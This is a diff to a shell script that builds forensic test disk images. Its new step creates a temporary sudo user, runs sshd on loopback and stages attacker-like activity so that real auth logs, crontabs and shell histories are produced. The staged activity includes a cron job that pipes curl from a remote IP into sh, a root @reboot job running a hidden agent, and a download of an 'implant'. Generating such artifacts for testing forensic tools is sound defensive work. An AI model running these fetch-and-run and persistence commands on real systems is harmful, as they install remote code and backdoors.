@@ -196,6 +196,74 @@ build_linux_rhel() {
   expect "$img" linux-rhel
 }
 
+# ---------------------------------------------------------------- Linux logons, sudo, account changes and shell histories
+# Everything here was written by the real programs on this machine: rsyslogd (imuxsock) logs
+# what sshd (key logon over loopback, an invalid user), sudo, useradd/usermod/chpasswd and
+# crontab sent to syslog, in rsyslog's default RFC 3339 format (auth.log) and in the
+# traditional year-less one (secure); bash and zsh write their own history files. The step
+# adds the user mallory to this machine and removes it again; run it as root on a scratch box.
+build_linux_auth() {
+  local root=$WORK/authroot img=$WORK/auth.img logs=$WORK/authlogs k=$WORK/sshkeys
+  rm -rf "$root" "$img" "$logs" "$k"; mkdir -p "$logs" "$k" /run/sshd
+  cat >"$logs/rsyslog.conf" <<EOF
+module(load="imuxsock")
+auth,authpriv.* action(type="omfile" file="$logs/auth.log")
+auth,authpriv.* action(type="omfile" file="$logs/secure" template="RSYSLOG_TraditionalFileFormat")
+cron.* action(type="omfile" file="$logs/syslog")
+EOF
+  rsyslogd -f "$logs/rsyslog.conf" -i "$logs/rsyslog.pid"; sleep 1
+  useradd -m -u 1337 -s /bin/bash -c "Mallory,,," mallory
+  usermod -aG sudo mallory
+  echo 'mallory:corpus-only-not-a-secret' | chpasswd
+  ssh-keygen -q -t ed25519 -N '' -f "$k/host"; ssh-keygen -q -t ed25519 -N '' -C mallory@corpus -f "$k/id"
+  install -d -m 700 -o mallory -g mallory /home/mallory/.ssh
+  install -m 600 -o mallory -g mallory "$k/id.pub" /home/mallory/.ssh/authorized_keys
+  /usr/sbin/sshd -f /dev/null -h "$k/host" -p 2222 -o ListenAddress=127.0.0.1 -o PidFile="$k/sshd.pid" -o UsePAM=yes
+  sleep 1
+  local ssh=(ssh -q -i "$k/id" -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes)
+  "${ssh[@]}" ghost@127.0.0.1 true || true          # Invalid user
+  "${ssh[@]}" root@127.0.0.1 true || true           # key not accepted for root
+  # mallory logs on with her key, installs a crontab, runs sudo without and with her password,
+  # and has root install a crontab for root through sudo.
+  "${ssh[@]}" mallory@127.0.0.1 'printf "*/5 * * * * curl -s -m 1 http://203.0.113.9/x | sh\n" | crontab -; sudo -n true' || true
+  "${ssh[@]}" mallory@127.0.0.1 "echo corpus-only-not-a-secret | sudo -S -p '' sh -c 'echo \"@reboot /var/tmp/.u/agent\" | crontab -u root -'"
+  # Her interactive shells: bash with HISTTIMEFORMAT (timestamps in the file), zsh with
+  # EXTENDED_HISTORY.
+  "${ssh[@]}" mallory@127.0.0.1 'HISTTIMEFORMAT="%F %T " HISTFILE=~/.bash_history bash -i' <<'EOF' >/dev/null 2>&1 || true
+id
+curl -s -m 1 http://203.0.113.9/implant -o /var/tmp/.implant
+chmod +x /var/tmp/.implant
+crontab -l
+EOF
+  "${ssh[@]}" mallory@127.0.0.1 'zsh -f -i' <<'EOF' >/dev/null 2>&1 || true
+HISTFILE=~/.zsh_history; SAVEHIST=100; HISTSIZE=100; setopt EXTENDED_HISTORY INC_APPEND_HISTORY
+uname -a
+rm -f /var/tmp/.implant
+exit
+EOF
+  # root's shell: no HISTTIMEFORMAT, so no timestamps.
+  env -u HISTTIMEFORMAT HISTFILE="$logs/root_history" bash -i <<'EOF' >/dev/null 2>&1 || true
+last -n 3
+cat /var/log/auth.log
+EOF
+  sleep 1
+  kill "$(cat "$k/sshd.pid")" || true
+  mkdir -p "$root/etc" "$root/var/log" "$root/var/spool/cron/crontabs" "$root/root" "$root/home"
+  printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n' >"$root/etc/os-release"
+  getent passwd root mallory >"$root/etc/passwd"
+  getent group root sudo mallory >"$root/etc/group"
+  cp -a /home/mallory "$root/home/"; rm -rf "$root/home/mallory/.ssh"
+  cp -a /var/spool/cron/crontabs/mallory /var/spool/cron/crontabs/root "$root/var/spool/cron/crontabs/"
+  cp "$logs/root_history" "$root/root/.bash_history"
+  kill "$(cat "$logs/rsyslog.pid")"; sleep 1
+  cp "$logs/auth.log" "$logs/secure" "$logs/syslog" "$root/var/log/"
+  rm -f /var/spool/cron/crontabs/mallory /var/spool/cron/crontabs/root /dev/log
+  userdel -r mallory 2>/dev/null || true
+  mke2fs -q -t ext4 -L auth-root -d "$root" "$img" 16M
+  store "$img" linux-auth
+  expect "$img" linux-auth
+}
+
 # ---------------------------------------------------------------- Windows scheduled tasks on NTFS
 build_windows_tasks() {
   local img=$WORK/wintasks.img tree=$WORK/wintree
@@ -285,7 +353,7 @@ build_containers() {
   done
 }
 
-for step in ${STEPS:-ntfs ext4 inline ext23 gpt mbr cycle linux_debian linux_rhel windows_tasks other_fs containers}; do
+for step in ${STEPS:-ntfs ext4 inline ext23 gpt mbr cycle linux_debian linux_rhel linux_auth windows_tasks other_fs containers}; do
   echo "building $step" >&2
   "build_$step"
 done
